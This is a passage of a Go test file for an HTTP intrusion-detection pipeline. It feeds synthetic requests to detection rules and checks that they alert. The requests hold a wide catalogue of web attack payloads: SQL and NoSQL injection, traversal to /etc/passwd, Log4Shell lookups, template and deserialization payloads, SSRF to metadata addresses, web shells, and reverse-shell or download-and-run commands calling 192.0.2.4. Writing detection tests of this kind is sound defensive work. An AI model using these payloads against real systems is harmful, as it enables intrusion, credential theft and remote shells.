package pipeline

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func confident(t *testing.T, properties ...string) *Pipeline {
	t.Helper()
	p, _ := newPipeline(t, append([]string{"mapping=nano", "alert_when=confidence"}, properties...)...)
	return p
}

// exchange is a Nano record.
func exchange(method, uri, kind, body string, more ...string) map[string]string {
	head := method + " " + uri + " HTTP/1.1\r\nHost: shop.internal\r\nUser-Agent: okhttp/4.12.0\r\nAccept: */*\r\n"
	if kind != "" {
		head += fmt.Sprintf("Content-Type: %s\r\nContent-Length: %d\r\n", kind, len(body))
	}
	r := map[string]string{
		"METHOD": method, "URL": uri, "DOMAIN": "shop.internal", "SRC_IP": "10.1.0.7", "DST_IP": "10.2.0.9", "SRC_PORT": "40112", "DST_PORT": "8080", "RETCODE": "200",
		"REQ_BODY": body, "RSP_HEADER": "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n",
	}
	for _, m := range more {
		if answer, ok := strings.CutPrefix(m, "answer: "); ok {
			r["RSP_BODY"] = answer
			if strings.HasPrefix(answer, "<html>") {
				r["RSP_HEADER"] = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
			}
		} else if where, ok := strings.CutPrefix(m, "redirect: "); ok {
			r["RETCODE"], r["RSP_HEADER"] = "302", "HTTP/1.1 302 Found\r\nLocation: "+where+"\r\n\r\n"
		} else {
			head += m + "\r\n"
		}
	}
	r["REQ_HEADER"] = head + "\r\n"
	return r
}

const jsonType = "application/json"

// Attacks that a record shows plainly alarm, in whatever encoding and place.
func TestConfidenceOfAttacks(t *testing.T) {
	p := confident(t, "rules=crs,lateral-movement,sensitive-data")
	for name, record := range map[string]map[string]string{
		"traversal":               exchange("GET", "/get?file=../../../../etc/passwd", "", ""),
		"lookup in an issue":      exchange("POST", "/rest/api/2/issue", jsonType, `{"fields":{"summary":"x","description":"${jndi:ldap://193.32.162.7:1389/a}"}}`),
		"traversal in base64":     exchange("GET", "/get?file=Li4vLi4vLi4vZXRjL3NoYWRvdw", "", ""),
		"traversal, overlong":     exchange("GET", "/get?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "", ""),
		"traversal, lost bytes":   exchange("POST", "/get", jsonType, `{"file":"..`+"\ufffd\ufffd..\ufffd\ufffd"+`etc`+"\ufffd\ufffd"+`passwd"}`),
		"SQL in the path":         exchange("GET", "/items/1'%20union%20select%20card%20from%20payments--%20/show", "", ""),
		"SQL in JSON":             exchange("POST", "/login", jsonType, `{"user":"admin' or '1'='1' -- ","password":"x"}`),
		"script":                  exchange("GET", "/hello?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", ""),
		"command in a header":     exchange("GET", "/", "", "", "X-Customer: a;cat /etc/passwd"),
		"command in a form":       exchange("POST", "/ping", "application/x-www-form-urlencoded", "host=127.0.0.1;id"),
		"log4shell":               exchange("GET", "/", "", "", "X-Api-Version: ${jndi:ldap://10.9.9.9:1389/a}"),
		"template":                exchange("POST", "/render", jsonType, `{"text":"{{7*7}}"}`),
		"web shell's answer":      exchange("GET", "/up/a.php?q=1", "", "", "answer: uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
		"passwd in the answer":    exchange("GET", "/get?id=3", "", "", "answer: root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/usr/sbin/nologin\n"),
		"passwd in JSON":          exchange("GET", "/t?id=3", "", "", `answer: {"t":"a\nroot:x:0:0:root:\/root:\/bin\/sh\n"}`),
		"serialized in a cookie":  exchange("GET", "/", "", "", "Cookie: s=Y29zCnN5c3RlbQooUydpZCcKdFIu", "answer: uid=0(root) gid=0(root)\n"),
		"double escaped script":   exchange("GET", "/a?x=%25253Cscript%25253Ealert(1)%25253C/script%25253E", "", ""),
		"SQL in a cookie's JSON":  exchange("GET", "/", "", "", `Cookie: prefs={"sort":"1' UNION SELECT password FROM users -- "}`),
		"traversal in the path":   exchange("GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "", ""),
		"login by an operator":    exchange("POST", "/login", jsonType, `{"user":"admin","password":{"$ne":null}}`),
		"the same in a form":      exchange("POST", "/login", "application/x-www-form-urlencoded", "user[$gt]=&pwd[$gt]="),
		"command in an agent":     agent("Mozilla/5.0 (X11; Linux x86_64); id"),
		"command in a comment":    agent("Mozilla/5.0 (X11; $(id); Linux x86_64)"),
		"whoami in a comment":     agent("Mozilla/5.0 (X11; id; whoami; Linux x86_64)"),
		"function of bash":        agent("() { :;}; id"),
		"scanner":                 agent("Vega/1.0"),
		"settings of Docker":      exchange("GET", "/.docker/config.json", "", ""),
		"web shell":               exchange("GET", "/up/a.php?cmd=ls", "", ""),
		"code for a database":     exchange("GET", "/find?$where=sleep(2000)", "", ""),
		"external entity in JSON": exchange("POST", "/x", jsonType, `{"doc":"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"}`),
	} {
		t.Run(name, func(t *testing.T) {
			if got := alertsOf(t, p, record); len(got) != 1 {
				t.Errorf("%d alerts", len(got))
			}
		})
	}
}

// Rules of the set evidence that alarm by what they are sure of, with the record on which they do.
func TestEvidence(t *testing.T) {
	p := confident(t, "rules=crs")
	for name, c := range map[string]struct {
		record map[string]string
		rule   int
	}{
		"sum of a shell":                  {exchange("GET", "/ping?host="+url.QueryEscape("a; expr 41021 + 7713"), "", ""), 9703080},
		"sum as a whole":                  {exchange("POST", "/cli", "application/x-www-form-urlencoded", "command=expr+41021+*+7713"), 9703080},
		"sum of Windows":                  {exchange("GET", "/ping?host="+url.QueryEscape("a || set /a 4102*7713"), "", ""), 9703080},
		"length of a text by time":        {exchange("GET", "/a/"+url.PathEscape("; s=$(echo QXZ); n=${#s}; if [ 3 -ne ${n} ]; then sleep 0; else sleep 1; fi"), "", ""), 9703080},
		"digest that is printed":          {exchange("GET", "/a?content="+url.QueryEscape("die(@md5(lamp))"), "", ""), 9703081},
		"sum that is printed":             {exchange("POST", "/a", "application/x-www-form-urlencoded", "order="+url.QueryEscape("}{end}print(41021+77135);")), 9703081},
		"condition of a CMS":              {exchange("GET", "/search?keys="+url.QueryEscape("{if:=PHPINFO()}{end if}"), "", ""), 9703082},
		"sum of Struts":                   {exchange("GET", "/a?id="+url.QueryEscape("lamp%{128*128}"), "", ""), 9703033},
		"script of another host":          {exchange("GET", "/inc/a.php?root="+url.QueryEscape("http://203.0.113.7:8080/k3x?"), "", ""), 9703083},
		"text of another host":            {exchange("GET", "/inc/a.php?root="+url.QueryEscape("http://files.example/a.txt??"), "", ""), 9703083},
		"file by SQL":                     {exchange("POST", "/_sql", jsonType, `{"stmt":"COPY a FROM '/etc/passwd' WITH (format='csv')"}`), 9703084},
		"program by SQL":                  {exchange("POST", "/_sql", jsonType, `{"stmt":"copy a (b) from program 'id'"}`), 9703084},
		"command as a query":              {exchange("GET", "/cgi-bin/survey?cat%20/etc/hosts", "", ""), 9703085},
		"file behind a text":              {exchange("GET", "/tex?path="+url.QueryEscape(`a" || echo db 90 4d 5a>>kxq`), "", ""), 9703086},
		"operator for a password":         {exchange("POST", "/login", jsonType, `{"name":"a","password":{"$ne":null}}`), 9703044},
		"operator in a parameter":         {exchange("GET", "/login?user[$regex]=.*&x=1", "", ""), 9703044},
		"script for a database":           {exchange("POST", "/find", jsonType, `{"$where":"this.a == 1 || true"}`), 9703044},
		"sum in brackets":                 {exchange("GET", "/greet?name="+url.QueryEscape("{{ 31337 - 20000 }}"), "", ""), 9703033},
		"configuration in brackets":       {exchange("GET", "/greet?name="+url.QueryEscape("{{config}}"), "", ""), 9703033},
		"address in one number":           {exchange("GET", "/fetch?url="+url.QueryEscape("http://2852039166/latest/"), "", ""), 9703046},
		"address of another version":      {exchange("GET", "/fetch?url="+url.QueryEscape("http://[::ffff:169.254.169.254]/"), "", ""), 9703046},
		"condition without a quote":       {exchange("GET", "/item?id="+url.QueryEscape("7 or 4=4"), "", ""), 9703015},
		"columns counted":                 {exchange("GET", "/item?id="+url.QueryEscape("3 order by 12-- "), "", ""), 9703016},
		"version of a database":           {exchange("GET", "/item?id="+url.QueryEscape("-3 union select 1,@@version"), "", ""), 9703017},
		"tool of Windows":                 {exchange("GET", "/ping?host="+url.QueryEscape("a & tasklist"), "", ""), 9703024},
		"server-side include":             {exchange("POST", "/note", jsonType, `{"text":"<!--#exec cmd=\"id\" -->"}`), 9703034},
		"Razor":                           {exchange("GET", "/greet?name="+url.QueryEscape("@(13*13)"), "", ""), 9703035},
		"line of an answer":               {exchange("GET", "/lang?to="+url.QueryEscape("en\r\nSet-Cookie: role=admin"), "", ""), 9703047},
		"line of a mail":                  {exchange("GET", "/ask?from="+url.QueryEscape("a@b.example\r\nBcc: all@c.example"), "", ""), 9703048},
		"XPath":                           {exchange("GET", "/find?name="+url.QueryEscape("x'] | //staff/*[contains(*,'"), "", ""), 9703049},
		"script of a document database":   {exchange("GET", "/find?name="+url.QueryEscape("a'; return this.pin == '1"), "", ""), 9703050},
		"filter of LDAP":                  {exchange("GET", "/people?name="+url.QueryEscape("*)(|(cn=*))"), "", ""), 9703051},
		"stream of PHP":                   {exchange("GET", "/?page="+url.QueryEscape("php://filter/convert.base64-encode/resource=config"), "", ""), 9703052},
		"prefix of Struts":                {exchange("GET", "/index.action?redirect:"+url.QueryEscape("${#a=3}"), "", ""), 9703056},
		"OGNL":                            {exchange("GET", "/find?name="+url.QueryEscape("%{(#c=@java.lang.Math@abs(-3))}"), "", ""), 9703056},
		"context of Spring":               {exchange("POST", "/read", jsonType, `["org.springframework.context.support.FileSystemXmlApplicationContext","http://other.example/a.xml"]`), 9703057},
		"objects of Ruby":                 {exchange("POST", "/read", "application/x-yaml", "- !ruby/object:Gem::Requirement\n  a: b\n"), 9703057},
		"object of Python":                {exchange("POST", "/read", jsonType, `{"state":"gASVHgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAV0b3VjaJSFlFKULg=="}`), 9703058},
		"repository of a site":            {exchange("GET", "/.git/HEAD", "", ""), 9703060},
		"settings of a site":              {exchange("GET", "/app/.env.bak", "", ""), 9703060},
		"settings beside a folder":        {exchange("GET", "/show?file="+url.QueryEscape("../../.aws/credentials"), "", ""), 9703060},
		"token without a signature":       {exchange("GET", "/admin", "", "", "Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbm4ifQ."), 9703059},
		"token with another one's header": {exchange("GET", "/admin", "", "", "Cookie: t=eyJ0eXAiOiAiSldUIiwgImFsZyI6ICJOT25lIn0.eyJzdWIiOiJhbm4ifQ."), 9703059},
		"key of a token that is a file":   {exchange("GET", "/admin", "", "", "Authorization: Bearer "+token(`{"alg":"HS256","kid":"../../../dev/null"}`)), 9703061},
		"key of a token from inside":      {exchange("GET", "/admin", "", "", "Authorization: Bearer "+token(`{"alg":"RS256","jku":"http://169.254.169.254/k.json"}`)), 9703061},
		"map as the state of a page":      {exchange("POST", "/a.xhtml", "application/x-www-form-urlencoded", "javax.faces.ViewState="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda")))), 9703062},
		"state of .NET":                   {exchange("POST", "/a.aspx", "application/x-www-form-urlencoded", "__VIEWSTATE="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("\xff\x01\x32\x90\x01\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00")))), 9703058},
		"object of Ruby in a cookie":      {exchange("GET", "/", "", "", "Cookie: s="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte("\x04\bo:\x15Gem::Requirement\x06:\x12@requirements")))), 9703058},
		"pickled bytes":                   {exchange("POST", "/model", "application/octet-stream", "\ufffd\x04\ufffd\x8c\x02os\ufffd\ufffd\x05popen\ufffd\ufffd\x02ls\ufffd\ufffdR\ufffd."), 9703063},
		"class for Json.NET":              {exchange("POST", "/read", jsonType, `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`), 9703064},
		"class for Jackson":               {exchange("POST", "/read", jsonType, `{"id":2,"item":["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"x"}]}`), 9703064},
		"function in an object":           {exchange("POST", "/read", jsonType, `{"a":"_$$ND_FUNC$$_function(){return 3}()"}`), 9703057},
		"object of PHP in base64":         {exchange("GET", "/", "", "", "Cookie: d="+base64.StdEncoding.EncodeToString([]byte("O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";i:1;}"))), 9703065},
		"class loader":                    {exchange("POST", "/greet", "application/x-www-form-urlencoded", "class.module.classLoader.resources.context.parent.appBase=a"), 9703069},
		"prototype":                       {exchange("GET", "/list?__proto__[role]=admin", "", ""), 9703066},
		"prototype in a form":             {exchange("POST", "/list", "multipart/form-data; boundary=q", "--q\r\nContent-Disposition: form-data; name=\"constructor[prototype][role]\"\r\n\r\n1\r\n--q--\r\n"), 9703066},
		"script called a picture":         {uploaded("cat.phtml.png", "x"), 9703070},
		"picture that is a script":        {uploaded("cat.gif.jspx", "x"), 9703070},
		"script behind a zero":            {uploaded("cat.asp%00.gif", "x"), 9703070},
		"settings of a web server":        {uploaded(".htaccess", "x"), 9703070},
		"command in a name":               {uploaded("a.pdf; wget 203.0.113.7/x", "x"), 9703078},
		"SQL in a name":                   {uploaded("a' or '7'='7.png", "x"), 9703078},
		"markup in a name":                {uploaded("<img src=x onerror=alert(4)>.png", "x"), 9703078},
		"way out in a name":               {uploaded(`..\\..\\wwwroot\\b.txt`, "x"), 9703078},
		"shell in a picture":              {uploaded("cat.png", "GIF89a<?php echo exec($_REQUEST[1]);"), 9703071},
		"shell of a page":                 {uploaded("cat.txt", "<% out.print(Runtime.getRuntime().exec(request.getParameter(\"a\"))); %>"), 9703071},
		"command in a picture":            {uploaded("cat.mvg", "push graphic-context\nfill 'url(https://a.example/b.png\"|id\")'"), 9703071},
		"archive that leads out":          {uploaded("a.zip", "PK\x03\x04\x14\x00../../../srv/a.php"), 9703071},
		"script in a drawing":             {uploaded("a.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(3)'/>"), 9703071},
		"script that is put":              {exchange("PUT", "/files/a.jsp/", "application/octet-stream", "<% Runtime.getRuntime().exec(\"id\"); %>"), 9703072},
		"file that becomes a script":      {exchange("MOVE", "/dav/note.txt", "", "", "Destination: http://shop.internal/dav/note.aspx"), 9703073},
		"other protocol":                  {exchange("GET", "/fetch?u="+url.QueryEscape("gopher://cache:6379/_INFO"), "", ""), 9703074},
		"dots and a semicolon":            {exchange("GET", "/shop/..;/console/", "", ""), 9703075},
		"short name":                      {exchange("GET", "/adm*~1*/x.aspx", "", ""), 9703075},
		"stream of a file":                {exchange("GET", "/index.asp::$DATA", "", ""), 9703075},
		"chunks that one server reads":    {exchange("POST", "/", "text/plain", "0\r\n\r\nX", "Transfer-Encoding: chunked, x", "Content-Length: 6"), 9703076},
		"formula with a sign":             {exchange("POST", "/contacts", jsonType, `{"name":"+7+cmd|' /C calc'!A0"}`), 9703077},
		"formula":                         {exchange("POST", "/contacts", jsonType, `{"name":"=2+5+cmd|' /C calc'!A0"}`), 9703077},
		"edge-side include":               {exchange("POST", "/note", jsonType, `{"text":"<esi:vars>$(HTTP_COOKIE)</esi:vars>"}`), 9703034},
		"address of nothing but zero":     {exchange("GET", "/fetch?url="+url.QueryEscape("http://0:8080/"), "", ""), 9703046},
		"name that leads inside":          {exchange("GET", "/fetch?url="+url.QueryEscape("http://a.169.254.169.254.nip.io/latest/"), "", ""), 9703046},
		"name that changes":               {exchange("GET", "/fetch?url="+url.QueryEscape("http://c0a80001.7f000001.rbndr.us/"), "", ""), 9703046},
		"address behind a fragment":       {exchange("GET", "/fetch?url="+url.QueryEscape("http://shop.internal#@10.0.0.8/"), "", ""), 9703046},
		"schema asked for":                {exchange("GET", "/graphql?query="+url.QueryEscape("{__schema{types{name}}}"), "", ""), 9703053},
		"redirect without a scheme":       {exchange("GET", "/login?next="+url.QueryEscape("//other.example/a"), "", ""), 9703054},
		"redirect behind a name":          {exchange("GET", "/login?returnUrl="+url.QueryEscape("https://shop.internal@other.example/"), "", ""), 9703054},
		"redirect with a backslash":       {exchange("GET", "/login?redirect_uri="+url.QueryEscape(`/\other.example`), "", ""), 9703054},
		"encoded in a string of GraphQL":  {exchange("POST", "/graphql", jsonType, `{"query":"{ item(name: \"bGFtcCcgT1IgJzEnPScx\") { id } }"}`), 9703015},
		"dump":                            {exchange("GET", "/a", "", "", "answer: -- MySQL dump 10.13  Distrib 8.0.36\n--\n"), 9703105},
		"status":                          {exchange("GET", "/a", "", "", "answer: <title>Apache Status</title><h1>Apache Server Status for a</h1>"), 9703106},
		"settings":                        {exchange("GET", "/a", "", "", `answer: {"activeProfiles":[],"propertySources":[{"name":"server.ports"}]}`), 9703106},
		"hashes":                          {exchange("GET", "/a", "", "", "answer: admin:$apr1$x7Yz0qk1$u3QmL5c1oQ0vS2dJ8wTn00\n"), 9703107},
		"schema":                          {exchange("POST", "/graphql", jsonType, `{"query":"{__schema{types{name}}}"}`, `answer: {"data":{"__schema":{"types":[]}}}`), 9703108},
		"folder of Windows":               {exchange("GET", "/upload/x.asp?c=dir", "", "", "answer:  Volume in drive C has no label.\r\n Volume Serial Number is 12AB-34CD\r\n\r\n Directory of C:\\lamps\r\n"), 9703143},
		"environment":                     {exchange("GET", "/x.php?c=env", "", "", "answer: HOSTNAME=web-1\nPATH=/usr/local/sbin:/bin\nHOME=/root\n"), 9703143},
		"routes":                          {exchange("GET", "/x.php?c=route+-n", "", "", "answer: Kernel IP routing table\nDestination Gateway\n"), 9703143},
		"system, by wmic":                 {exchange("GET", "/tmp/up.php?c="+url.QueryEscape("wmic os get caption,version /value"), "", "", "answer: \r\n\r\nCaption=Microsoft Windows 10 Pro\r\nVersion=10.0.19045\r\n"), 9703143},
		"secrets, by kubectl":             {exchange("GET", "/js/k.php?q="+url.QueryEscape("kubectl get secrets -n prod"), "", "", "answer: NAME              TYPE     DATA   AGE\ndb-credentials    Opaque   3      311d\n"), 9703143},
		"system, in JSON":                 {exchange("POST", "/api/backup/run", jsonType, `{"job":"daily","preScript":"systeminfo"}`, "answer: \r\nHost Name:                 BKP01\r\nOS Name:                   Microsoft Windows Server 2019\r\n"), 9703143},
		"hidden script":                   {exchange("POST", "/app/cache/.x.php", "application/x-www-form-urlencoded", "p=bHMgLWxh"), 9703155},
		"three logins, one by one":        {exchange("POST", "/graphql", jsonType, `[`+strings.Repeat(`{"query":"mutation{login(user:\"a\",pin:\"1200\"){token}}"},`, 3)+`{}]`), 9703150},
		"kernel, and nothing else":        {exchange("GET", "/x", "", "", "answer: Linux (none) 3.3.0 #1 PREEMPT Wed Dec 5 14:10:44 CST 2018 armv5tejl GNU/Linux\nroot\n"), 9703156},
		"version of a kernel":             {exchange("GET", "/a/b.php?c=uname+-a", "", "", "answer: Linux web-3 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 x86_64 GNU/Linux\n"), 9703109},
		"settings of PHP":                 {exchange("GET", "/a/b.php", "", "", "answer: <html><head><title>PHP 8.2.7 - phpinfo()</title></head>"), 9703110},
		"redirected without a scheme":     {exchange("GET", "/go?u="+url.QueryEscape("//other.example/a"), "", "", "redirect: //other.example/a"), 9703111},
		"redirected behind a name":        {exchange("GET", "/go?u="+url.QueryEscape("https://shop.internal@other.example/"), "", "", "redirect: https://shop.internal@other.example/"), 9703111},
		"redirected by a backslash":       {exchange("GET", "/go?u="+url.QueryEscape(`/\other.example`), "", "", `redirect: /\other.example`), 9703111},
		"greater than nothing":            {exchange("GET", "/people?id[$gt]=&limit=2", "", ""), 9703067},
		"pattern of everything":           {exchange("GET", "/people?name[$regex]=.*", "", ""), 9703067},
		"union behind a number":           {exchange("GET", "/a?id="+url.QueryEscape("7.e0union(select@@version,2)"), "", ""), 9703087},
		"union behind a letter of Oracle": {exchange("GET", "/a?id="+url.QueryEscape("7DUNION ALL SELECT 1,2"), "", ""), 9703087},
		"union behind a text":             {exchange("GET", "/a?id="+url.QueryEscape("lamp') /*a*/union/**/select null,null,'q'||'q' from dual"), "", ""), 9703087},
		"condition with a query":          {exchange("GET", "/a?id="+url.QueryEscape("7 AND 1=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES)"), "", ""), 9703088},
		"condition with a pattern":        {exchange("GET", "/a?id="+url.QueryEscape("lamp' or name like '%a"), "", ""), 9703088},
		"rows into a file":                {exchange("GET", "/a?id="+url.QueryEscape("7 INTO OUTFILE '/srv/lamp.php'"), "", ""), 9703088},
		"rows to a program":               {exchange("GET", "/a?id="+url.QueryEscape("7;COPY (SELECT '') TO PROGRAM 'lamp'--"), "", ""), 9703088},
		"blanks that are comments":        {exchange("GET", "/a?id="+url.QueryEscape("7--abcd\nAND--efgh\n9=9"), "", ""), 9703088},
		"order that sleeps":               {exchange("GET", "/a?id="+url.QueryEscape("name,SLEEP(5)"), "", ""), 9703088},
		"words with comments in them":     {exchange("GET", "/a?id="+url.QueryEscape("7 UN/**/ION SELE/**/CT lamp FR/**/OM shop"), "", ""), 9703089},
		"words with percent signs":        {exchange("GET", "/a?id="+url.QueryEscape("7 %U%N%I%O%N %S%E%L%E%C%T 1"), "", ""), 9703089},
		"query in a name":                 {exchange("GET", "/a?"+url.QueryEscape("filter[value][0||(SELECT 'a'::text)]")+"=1", "", ""), 9703090},
		"attribute that is hidden":        {exchange("GET", "/a?name="+url.QueryEscape("{{lamp|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"), "", ""), 9703091},
		"class of a value":                {exchange("GET", "/a?name="+url.QueryEscape("${lamp.getClass().getProtectionDomain()}"), "", ""), 9703091},
		"file by a tag":                   {exchange("GET", "/a?name="+url.QueryEscape("<%= File.open('/srv/lamp').read %>"), "", ""), 9703091},
		"process of Node.js":              {exchange("GET", "/a?name="+url.QueryEscape("x = root.process.mainModule.require"), "", ""), 9703091},
		"constructor that returns":        {exchange("GET", "/a?name="+url.QueryEscape("{{:\"a\".toString.constructor.call({},\"return global.process\")()}}"), "", ""), 9703091},
		"process of Razor":                {exchange("GET", "/a?name="+url.QueryEscape("@{ System.Diagnostics.Process.Start(\"lamp\"); }"), "", ""), 9703091},
		"object of JSF":                   {exchange("GET", "/a?name="+url.QueryEscape("#{facesContext.externalContext.redirect('http://other.example')}"), "", ""), 9703091},
		"command in hexadecimal":          {exchange("GET", "/a?host="+url.QueryEscape(";$'\\x69\\x64'"), "", ""), 9703092},
		"command with gaps":               {exchange("GET", "/a?host="+url.QueryEscape("a||/bin/c?t /e??/h?sts"), "", ""), 9703092},
		"option of tar":                   {exchange("GET", "/a?host="+url.QueryEscape("--checkpoint-action=exec=sh lamp.sh"), "", ""), 9703092},
		"option of ssh":                   {exchange("GET", "/a?host="+url.QueryEscape("-oProxyCommand=lamp x"), "", ""), 9703092},
		"shell for netcat":                {exchange("GET", "/a?host="+url.QueryEscape("a;busybox nc 192.0.2.4 4444 -e sh"), "", ""), 9703092},
		"shell that calls back":           {exchange("POST", "/job", jsonType, `{"command":"cd /srv/lamp && bash -i >& /dev/tcp/192.0.2.4/4444 0>&1"}`), 9703092},
		"script in a picture":             {exchange("PUT", "/media/7", "image/png", "\x89PNG\r\n\x1a\n<?php system($_GET[\"c\"]); ?>"), 9703071},
		"Python that calls back":          {exchange("POST", "/job", jsonType, `{"args":"python3 -c 'import socket,os;s=socket.socket();s.connect((\"192.0.2.4\",9));os.dup2(s.fileno(),0)'"}`), 9703092},
		"pipe that calls back":            {exchange("POST", "/job", jsonType, `{"args":"mkfifo /tmp/a; sh -i </tmp/a 2>&1 | nc 192.0.2.4 4444 >/tmp/a"}`), 9703092},
		"PowerShell that calls back":      {exchange("POST", "/job", jsonType, `{"args":"$c = New-Object Net.Sockets.TCPClient('192.0.2.4',9);$s=$c.GetStream();iex $x"}`), 9703092},
		"script that is fetched and run":  {exchange("POST", "/job", jsonType, `{"name":"lamp; wget -qO- http://192.0.2.4/m.sh | sh"}`), 9703092},
		"program that is fetched and run": {exchange("GET", "/a?host="+url.QueryEscape("`cd /tmp; curl -O http://192.0.2.4/m; chmod 777 m; ./m"), "", ""), 9703092},
		"users behind a separator":        {exchange("POST", "/job", jsonType, `{"data":{"attributes":{"message":"lamp;cat /etc/shadow"}}}`), 9703092},
		"child process of Node.js":        {exchange("POST", "/calc", jsonType, `{"expr":"require('child_process').execSync('lamp').toString()"}`), 9703091},
		"query behind a condition":        {exchange("GET", "/a?filter="+url.QueryEscape(`name eq "x" or 1=1) union select lamp from shop--"`), "", ""), 9703087},
		"rows of a table to a program":    {exchange("POST", "/_sql", jsonType, `{"stmt":"SELECT 1; COPY (SELECT '') TO PROGRAM 'lamp'"}`), 9703084},
		"address of metadata, no scheme":  {exchange("GET", "/a?host=169.254.169.254", "", "", `answer: {"AccessKeyId" : "ASIA7", "Code" : "Success"}`), 9703055},
		"address behind a backslash":      {exchange("GET", "/a?to="+url.QueryEscape(`https://other.example\@shop.internal/`), "", ""), 9703046},
		"addresses of a machine":          {exchange("GET", "/a?unit="+url.QueryEscape("a;ip addr"), "", ""), 9703024},
		"formula with quotes":             {exchange("POST", "/contacts", jsonType, `{"name":"=cmd|' /C powershell iex(\"lamp\")'!A0"}`), 9703077},
		"command with backslashes":        {exchange("GET", "/a?host="+url.QueryEscape("a;i\\d"), "", ""), 9703093},
		"command with quotes":             {exchange("GET", "/a?host="+url.QueryEscape("a&&w'h'o'a'mi"), "", ""), 9703093},
		"call of PHP":                     {exchange("GET", "/a?cb="+url.QueryEscape("phpinfo();"), "", ""), 9703094},
		"call of PHP in complements":      {exchange("GET", "/a?cb="+url.QueryEscape("(~\u00e1\u00e2\u00e3)();"), "", ""), 9703094},
		"object of Java in hexadecimal":   {exchange("GET", "/a?o="+url.QueryEscape("aced00057372002e6c616d702e536f7274"), "", ""), 9703095},
		"object of PHP":                   {exchange("POST", "/a", "application/x-www-form-urlencoded", "title="+url.QueryEscape(`O:9:"Shop\\Lamp":1:{s:1:"a";s:1:"b";}`)), 9703095},
		"object of XStream":               {exchange("POST", "/a", "application/xml", `<a><handler class="java.beans.EventHandler"><action>start</action></handler></a>`), 9703095},
		"object of jsonpickle":            {exchange("POST", "/a", jsonType, `{"py/reduce": [{"py/type": "os.system"}, {"py/tuple": ["lamp"]}]}`), 9703095},
		"condition of XPath":              {exchange("GET", "/a?user="+url.QueryEscape("lamp or true()"), "", ""), 9703096},
		"condition of a script":           {exchange("GET", "/a?user="+url.QueryEscape("'||1==1//"), "", ""), 9703096},
		"function of an aggregation":      {exchange("POST", "/a", jsonType, `{"pipeline":[{"$match":{"$expr":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}}]}`), 9703097},
		"document of a frame":             {exchange("GET", "/a?text="+url.QueryEscape("<iframe srcdoc='&lt;script&gt;lamp()&lt;/script&gt;'>"), "", ""), 9703098},
		"accounts of Windows":             {exchange("GET", "/lookup?host="+url.QueryEscape("a||net1 user lamp P4ss /add"), "", ""), 9703123},
		"service of Windows":              {exchange("POST", "/lookup", jsonType, `{"host":"a & sc create lamp binPath=c:\\lamp.exe"}`), 9703123},
		"client of a database":            {exchange("GET", "/check?target="+url.QueryEscape("localhost;mysql -u root -pLamp"), "", ""), 9703123},
		"short command":                   {exchange("GET", "/run?cmd=id", "", ""), 9703124},
		"command in JSON":                 {exchange("POST", "/run", jsonType, `{"exec":"whoami"}`), 9703124},
		"web shell by its name":           {exchange("GET", "/up/wso-4.2.5.php", "", ""), 9703125},
		"folder of a web shell":           {exchange("POST", "/ALFA_DATA/alfacgiapi/perl.alfa", "", ""), 9703125},
		"administrator by registration":   {exchange("POST", "/api/sign-up", jsonType, `{"user":"eve","isAdmin":true}`, `answer: {"user":"eve","isAdmin":true}`), 9703114},
		"role by a profile":               {exchange("PATCH", "/api/v1/me", jsonType, `{"roles":["admin"]}`, `answer: {"id":3,"roles":["admin"]}`), 9703114},
		"role by a form":                  {exchange("POST", "/register", "application/x-www-form-urlencoded", "user[name]=eve&user[role]=administrator", `answer: {"name":"eve","role":"administrator"}`), 9703114},
		"error of Oracle":                 {exchange("GET", "/a?id="+url.QueryEscape("1' AND 9=CTXSYS.DRITHSX.SN(9,(CHR(113)))-- "), "", ""), 9703126},
		"host of Oracle":                  {exchange("GET", "/a?id="+url.QueryEscape("1') AND 9=UTL_INADDR.GET_HOST_ADDRESS(CHR(113)||(SELECT 1 FROM DUAL))"), "", ""), 9703126},
		"characters of Oracle":            {exchange("POST", "/a", "application/x-www-form-urlencoded", "n="+url.QueryEscape("(SELECT UPPER(XMLType(CHR(60)||CHR(58)||CHR(113)||(SELECT 1 FROM DUAL))) FROM DUAL)")), 9703126},
		"digest of SQL Server":            {exchange("POST", "/a", "application/x-www-form-urlencoded", "n="+url.QueryEscape("1'+(select 1 where 1 in (SELECT sys.fn_varbintohexstr(hashbytes('MD5','7'))))+'1")), 9703126},
		"version asked for in a document": {exchange("POST", "/a", "application/x-www-form-urlencoded", "n="+url.QueryEscape("<A><D>select @@version</D></A>")), 9703126},
		"session of PHP":                  {exchange("POST", "/a.php", "application/x-www-form-urlencoded", "_SESSION[USER]=1"), 9703127},
		"server of PHP":                   {exchange("POST", "/a.php", "application/x-www-form-urlencoded", "name=a&_SERVER[REMOTE_ADDR]=x"), 9703127},
		"passwords in an address":         {exchange("GET", "/a?q="+url.QueryEscape("select login, passwd from shop_staff"), "", ""), 9703128},
		"users of WordPress":              {exchange("GET", "/a?q="+url.QueryEscape("SELECT * from wp_users"), "", ""), 9703128},
		"function in a list of columns":   {exchange("GET", "/dict/shop_lamp,user(),1", "", ""), 9703129},
